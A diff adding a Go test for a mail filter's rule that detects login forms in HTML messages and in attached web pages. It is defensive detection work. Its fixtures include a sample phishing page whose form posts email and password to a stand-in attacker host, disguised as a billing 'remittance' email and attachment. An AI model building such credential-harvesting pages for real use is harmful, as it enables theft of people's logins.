@@ -666,6 +666,36 @@ func TestDefaultFromNoDomain(t *testing.T) {
 	}
 }
 
+// PST_PASSWORD_FIELD: a login page in the message's HTML or in an attached web
+// page, whatever type the attachment declares; not a word about passwords.
+func TestDefaultPasswordField(t *testing.T) {
+	s, problems := Load(DefaultPath)
+	if len(problems) > 0 {
+		t.Fatal(problems)
+	}
+	page := `<html><body><form action="https://evil.example/p.php" method="post">Email <input name="e" value="you@example.com">` +
+		`Password <INPUT name="p" TYPE='Password' required></form></body></html>`
+	b64 := base64.StdEncoding.EncodeToString([]byte(page))
+	head := "From: Billing <billing@example.com>\nTo: user@example.com\nSubject: remittance\nMessage-ID: <1@x.example>\nMIME-Version: 1.0\n"
+	for _, tc := range []struct {
+		name, raw string
+		hit       bool
+	}{
+		{"in the message", head + "Content-Type: text/html\n\n" + page + "\n", true},
+		{"in an attached page", head + "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nSee the attached remittance.\n" +
+			"--b\nContent-Type: application/octet-stream; name=\"Remittance.html\"\nContent-Disposition: attachment; filename=\"Remittance.html\"\n" +
+			"Content-Transfer-Encoding: base64\n\n" + b64 + "\n--b--\n", true},
+		{"words about a password", head + "Content-Type: text/html\n\n<p>Your password was changed. <a href=\"https://example.com/\">Sign in</a></p>\n", false},
+		{"another field", head + "Content-Type: text/html\n\n<form><input type=\"text\" name=\"password_hint\"></form>\n", false},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			if got := slices.Contains(hitNames(t, s, msgOf(t, tc.raw)), "PST_PASSWORD_FIELD"); got != tc.hit {
+				t.Errorf("PST_PASSWORD_FIELD %v, want %v", got, tc.hit)
+			}
+		})
+	}
+}
+
 // Debian's stock SpamAssassin rules load without errors (CI installs spamassassin for
 // its rule files); unsupported rules are warnings.
 func TestStockSpamAssassinRules(t *testing.T) {
